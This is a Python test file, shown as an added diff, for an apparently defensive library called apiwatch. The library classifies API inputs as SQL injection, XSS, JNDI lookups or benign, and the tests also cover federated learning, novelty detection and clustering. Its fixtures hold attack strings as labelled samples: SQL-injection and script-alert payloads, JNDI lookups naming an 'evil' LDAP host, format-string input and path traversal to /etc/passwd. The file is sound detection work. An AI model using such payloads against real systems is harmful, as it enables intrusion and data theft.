@@ -1,0 +1,138 @@
+"""Names come from sums that are exact: added, taken away, and summed under masks."""
+
+from __future__ import annotations
+
+import numpy as np
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from apiwatch.classes import (
+    BENIGN,
+    ClassModel,
+    ClassSums,
+    class_weights,
+    encode,
+    learn_together,
+)
+from apiwatch.errors import ParameterError, ProfileMismatch
+from apiwatch.naming import Name, Namer, level_for, tag_of
+from apiwatch.secure import Members
+from apiwatch.unknown import clusters, novelty
+
+SQLI = [f"{i}' or {i}={i} union select name from users--" for i in range(40)]
+XSS = [f"<script>alert({i})</script>" for i in range(40)]
+USUAL = [f"anna {i} lives at mill road {i * 7}" for i in range(80)]
+PAIRS = [(t, "sqli") for t in SQLI] + [(t, "xss") for t in XSS] + [(t, BENIGN) for t in USUAL]
+LABELS = ("sqli", "xss", BENIGN)
+WEIGHTS = {"sqli": 5, "xss": 7, BENIGN: 4}
+
+
+def learn(pairs, weights=WEIGHTS) -> ClassSums:
+    return ClassSums.learn(pairs, weights, weights)
+
+
+def test_sums_add_up_and_come_apart() -> None:
+    whole, first, second = learn(PAIRS), learn(PAIRS[::2]), learn(PAIRS[1::2])
+    assert (first + second).digest == whole.digest
+    assert (whole - second).digest == first.digest
+    with pytest.raises(ProfileMismatch, match="cannot be taken away"):
+        first - second
+
+
+def test_the_vector_gives_the_sums_back() -> None:
+    sums = learn(PAIRS)
+    assert ClassSums.from_vector(sums.vector, sums.labels).digest == sums.digest
+    assert np.array_equal(sums.products, sums.products.T)
+
+
+def test_sites_with_one_class_each_learn_the_pooled_model() -> None:
+    sites = {1: PAIRS[:40], 2: PAIRS[40:80], 3: PAIRS[80:120], 4: PAIRS[120:], 5: []}
+    sums, rounds = learn_together(
+        sites, LABELS, Members.generate(sites), model=bytes(32), drops={4: "masked"}
+    )
+    stayed = [pair for site in rounds[-1].included for pair in sites[site]]
+    counts = {label: sum(name == label for _, name in PAIRS) for label in LABELS}
+    assert rounds[-1].included == {1, 2, 3, 5}
+    assert sums.digest == learn(stayed, class_weights(counts)).digest
+
+
+def test_values_are_named() -> None:
+    model = ClassModel(learn(PAIRS))
+    found = model.names(["1' or 2=2 union select x from y--", "<script>alert('a')</script>"])
+    assert [label for label, _ in found] == ["sqli", "xss"]
+    responses = model.responses(["anna 7 lives at mill road 9"])[0]
+    assert sorted(LABELS)[int(responses.argmax())] == BENIGN
+
+
+def test_a_new_class_is_one_more_sum() -> None:
+    new = [(f"${{jndi:ldap://host{i}/x}}", "java") for i in range(20)]
+    model = ClassModel(learn(PAIRS) + learn(new, {"java": 8}))
+    assert [name for name, _ in model.names(["${jndi:ldap://evil/y}"])] == ["java"]
+
+
+def test_the_unknown_is_told_from_the_known() -> None:
+    model = ClassModel(learn(PAIRS))
+    namer = Namer(model, level_for(model, [SQLI[0] + " ", XSS[0] + " "]))
+    odd = "%s%n%x" * 5
+    names = namer.names([SQLI[3], odd])
+    assert names[0].label == "sqli"
+    assert names[1].label == "unknown"
+    known = model.embed(SQLI + XSS)
+    near, far = novelty(model, [SQLI[3], odd], known)
+    assert near < far
+    with pytest.raises(ParameterError, match="known examples >= 5"):
+        novelty(model, SQLI, known[:4])
+    with pytest.raises(ParameterError, match="no level without them"):
+        level_for(model, [])
+
+
+def test_clusters_hold_what_is_alike() -> None:
+    model = ClassModel(learn([(t, "sqli") for t in SQLI] + [(t, BENIGN) for t in USUAL]))
+    paths = [f"../../../../etc/passwd{i}" for i in range(12)]
+    found = clusters(model, XSS[:20] + paths)
+    assert len(set(found[:20].tolist())) == 1
+    assert len(set(found[20:].tolist())) == 1
+    assert (found[0], found[20]) == (0, 1)
+    assert set(clusters(model, paths).tolist()) <= {0, -1}
+    assert (clusters(model, paths) == 0).sum() >= 5
+    assert clusters(model, paths[:2]).tolist() == [-1, -1]
+
+
+def test_rare_classes_weigh_more_within_bounds() -> None:
+    weights = class_weights({BENIGN: 10_000, "xss": 100, "odd": 0})
+    assert weights[BENIGN] == 4 < weights["xss"] < weights["odd"] <= 64
+
+
+@pytest.mark.parametrize(
+    ("pairs", "weights", "problem"),
+    [
+        ([("x", "java")], WEIGHTS, "labels in"),
+        (PAIRS, {**WEIGHTS, "xss": 65}, "1 <= weight <= 64"),
+        (PAIRS, {**WEIGHTS, "xss": 0}, "1 <= weight <= 64"),
+    ],
+)
+def test_examples_are_checked(pairs, weights, problem) -> None:
+    assert learn(PAIRS).counts.sum() == len(PAIRS)
+    with pytest.raises(ParameterError, match=problem):
+        learn(pairs, weights)
+
+
+def test_a_model_needs_benign_examples() -> None:
+    with pytest.raises(ParameterError, match="benign"):
+        ClassModel(learn(PAIRS[:40], {"sqli": 4}))
+
+
+@given(st.lists(st.text(), max_size=5))
+def test_encodings_are_small_integers(texts: list[str]) -> None:
+    encoded = encode(texts)
+    assert encoded.shape == (len(texts), 2049)
+    assert np.array_equal(encoded, np.rint(encoded))
+    assert encoded.min(initial=0) >= 0
+    assert encoded.max(initial=0) <= 32
+
+
+def test_tags() -> None:
+    assert tag_of("sqli").capec == "CAPEC-66"
+    assert tag_of("house style") is None
+    assert Name("xss", 0.5).confidence == 0.5
